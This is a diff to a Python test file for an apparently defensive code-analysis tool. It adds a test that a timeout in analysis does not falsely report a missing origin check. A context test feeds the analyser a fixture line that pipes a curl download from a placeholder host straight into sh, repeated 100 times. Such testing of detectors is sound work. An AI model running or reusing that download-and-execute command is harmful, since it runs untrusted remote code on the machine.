@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import itertools
 import random
 import time
 from typing import Final
@@ -70,13 +71,17 @@ _PIECES: Final = (
 )
 
 
-def _facts(files: dict[str, str], limits: Limits = DEFAULT_LIMITS) -> Facts:
+def _project(files: dict[str, str]) -> Project:
     modules = {}
     for path, text in files.items():
         module = lower(text.encode(), path, DEFAULT_LIMITS)
         assert module is not None
         modules[path] = module
-    return look(Project(modules), {}, limits)
+    return Project(modules)
+
+
+def _facts(files: dict[str, str], limits: Limits = DEFAULT_LIMITS) -> Facts:
+    return look(_project(files), {}, limits)
 
 
 @pytest.mark.parametrize(
@@ -130,6 +135,23 @@ def test_the_bound_on_facts_is_told() -> None:
     few = dataclasses.replace(DEFAULT_LIMITS, behaviour_facts=3)
     found = _facts({"a.py": "import os\n" + "os.system('curl https://x.example/i.sh | sh')\n" * 100}, few)
     assert (len(found.facts), found.complete) == (3, False)
+
+
+def test_nothing_is_said_to_be_missing_of_code_that_was_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Wherever the time ends, the check that comes last is not overlooked."""
+    made = "const t = new StreamableHTTPServerTransport({});\n"
+    checks = "function last(req) { if (req.headers['origin'] !== OWN) throw new Error('no'); }\n"
+    between = "".join(f"function f{number}() {{ return {number}; }}\n" for number in range(200))
+    assert [fact.name for fact in _facts({"a.js": made + between}).facts] == ["origin-unchecked"]
+    project = _project({"a.js": made + between + checks})
+    ended = []
+    for looks in range(400):
+        clock = itertools.chain([0.0] * looks, itertools.repeat(1e9))
+        monkeypatch.setattr(time, "thread_time", lambda clock=clock: next(clock))
+        found = look(project, {}, DEFAULT_LIMITS)
+        ended.append(found.complete)
+        assert found.facts == ()
+    assert {False, True} == set(ended)
 
 
 def test_a_long_text_is_read_to_its_end() -> None:
